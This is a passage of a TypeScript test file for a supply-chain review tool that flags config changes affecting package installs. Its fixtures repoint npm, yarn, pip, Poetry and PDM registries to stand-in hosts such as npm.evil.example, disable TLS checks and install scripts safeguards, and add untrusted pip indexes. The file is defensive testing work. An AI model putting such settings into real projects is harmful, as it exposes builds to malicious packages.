    name: 'a Dockerfile RUN continued by \\ sets the registry on its second line → CPU025 at the RUN',
    base: { Dockerfile: 'FROM node:20\nRUN npm ci\n' },
    head: {
      Dockerfile: 'FROM node:20\nRUN npm config set \\\n      registry https://npm.evil.example/ && \\\n    npm ci\n',
    },
    want: ['CPU025@Dockerfile:2'],
  },
  {
    name: 'the same flag set to false, or the env set to false → nothing',
    base: { '.github/workflows/ci.yml': workflow('npm ci') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'npm_config_dangerously_allow_all_scripts=false npm ci --dangerously-allow-all-scripts=false',
      ),
    },
    want: [],
  },
  {
    name: 'the same settings already at the base, or set to keep the safeguard, → nothing',
    base: { '.github/workflows/ci.yml': workflow('NODE_TLS_REJECT_UNAUTHORIZED=0 yarn install') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'NODE_TLS_REJECT_UNAUTHORIZED=0 yarn install && YARN_CHECKSUM_BEHAVIOR=throw NODE_TLS_REJECT_UNAUTHORIZED=1 yarn build',
      ),
    },
    want: [],
  },
  {
    name: 'a workflow adds a global tool install and a frozen bun install → nothing',
    base: { '.github/workflows/ci.yml': workflow('npm ci') },
    head: { '.github/workflows/ci.yml': workflow('npm install -g pnpm && bun install --frozen-lockfile') },
    want: [],
  },
  {
    name: 'a .yarnrc.yml that no longer parses → CPU030',
    base: { '.yarnrc.yml': 'nodeLinker: node-modules\n' },
    head: { '.yarnrc.yml': 'nodeLinker: [node-modules\n' },
    want: ['CPU030@.yarnrc.yml:1'],
  },
  {
    name: 'yarn 1 .yarnrc repoints the registry and a quoted scope → one CPU025 naming both',
    base: { '.yarnrc': '# yarn lockfile v1\nregistry "https://registry.npmjs.org/"\n' },
    head: {
      '.yarnrc':
        '# yarn lockfile v1\nregistry "https://npm.evil.example/"\n"@acme:registry" "https://npm.evil.example/"\n',
    },
    want: ['CPU025@.yarnrc:3'],
    sides: [
      '@acme:registry=(unset) registry=https://registry.npmjs.org/',
      '@acme:registry=https://npm.evil.example/ registry=https://npm.evil.example/',
    ],
  },
  {
    name: 'yarn 1 .yarnrc drops --install.ignore-scripts and names a yarn-path → CPU026',
    base: { '.yarnrc': '--install.ignore-scripts true\n' },
    head: { '.yarnrc': 'yarn-path "./tools/yarn.js"\n' },
    want: ['CPU026@.yarnrc:1'],
    sides: [
      '--install.ignore-scripts=true yarn-path=(unset)',
      '--install.ignore-scripts=(unset) yarn-path=./tools/yarn.js',
    ],
  },
  {
    name: 'yarn 1 .yarnrc edited without a watched setting → nothing',
    base: { '.yarnrc': '--install.ignore-scripts true\n' },
    head: { '.yarnrc': '--install.ignore-scripts true\nnetwork-timeout 600000\n' },
    want: [],
  },
  {
    name: 'pyproject gains a [[tool.poetry.source]] → CPU025',
    base: { 'pyproject.toml': '[tool.poetry]\nname = "app"\nversion = "1"\n' },
    head: {
      'pyproject.toml':
        '[tool.poetry]\nname = "app"\nversion = "1"\n\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pypi.evil.example/simple"\npriority = "primary"\n',
    },
    want: ['CPU025@pyproject.toml:7'],
  },
  {
    name: 'a [[tool.pdm.source]] repointed with verify_ssl off → CPU025 and CPU026',
    base: { 'pyproject.toml': '[[tool.pdm.source]]\nname = "corp"\nurl = "https://pypi.corp.example/simple"\n' },
    head: {
      'pyproject.toml':
        '[[tool.pdm.source]]\nname = "corp"\nurl = "https://pypi.evil.example/simple"\nverify_ssl = false\n',
    },
    want: ['CPU025@pyproject.toml:3', 'CPU026@pyproject.toml:4'],
  },
  {
    name: 'a workflow adds pip install of bare names with an extra index and a trusted host → CPU029, CPU025, CPU026',
    base: { '.github/workflows/ci.yml': workflow('pip install -r requirements.txt --require-hashes') },
    head: {
      '.github/workflows/ci.yml': workflow(
        'pip install torch transformers --extra-index-url https://pypi.evil.example/simple --trusted-host pypi.evil.example',
      ),
    },
    want: [
      'CPU025@.github/workflows/ci.yml:8',
      'CPU026@.github/workflows/ci.yml:8',
      'CPU029@.github/workflows/ci.yml:8',
    ],
  },
  {
    name: 'a Dockerfile moves from a hash-pinned requirements install to bare names → CPU029',
    base: { Dockerfile: 'FROM python:3.12\nRUN pip install --require-hashes -r requirements.txt\n' },
    head: { Dockerfile: 'FROM python:3.12\nRUN pip install --upgrade pip\nRUN pip install requests flask\n' },
    want: ['CPU029@Dockerfile:3'],
  },
  {
    name: 'a Dockerfile adds a requirements install and upgrades pip → nothing',
    base: { Dockerfile: 'FROM python:3.12\n' },
    head: { Dockerfile: 'FROM python:3.12\nRUN python -m pip install -U pip\nRUN pip install -r requirements.txt\n' },
    want: [],
  },
  {
    name: 'the work tree (the Action) repoints .npmrc → CPU025',
    base: { '.npmrc': 'registry=https://registry.npmjs.org/\n' },
    head: { '.npmrc': 'registry=https://npm.evil.example/\n' },
    want: ['CPU025@.npmrc:1'],
    workTree: true,
  },
];

describe('review reports what the change makes the install do', () => {
  it.each(cases)('$name', async ({ base, head, want, sides, workTree, level = 'error', says }) => {
    const repo = makeRepo({ 'README.md': 'x\n', ...base }, head);
    cleanups.push(repo.cleanup);
    const r: ReviewResult = workTree
      ? await reviewWorkTree(repo.dir, { gate: 'any' })
      : await reviewHead(repo.dir, { gate: 'any' });
    const found = r.findings.filter((f) => WATCH.test(f.ruleId));
    expect(found.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 1}`).sort()).toEqual(want);
    expect(found.map((f) => f.level)).toEqual(want.map(() => level));
    expect(r.gate?.passed).toBe(want.length === 0 || level !== 'error');
    if (sides) expect([found[0]?.evidence?.['before'], found[0]?.evidence?.['after']]).toEqual(sides);
    if (says !== undefined) expect(found[0]?.message).toContain(says);
  });
});
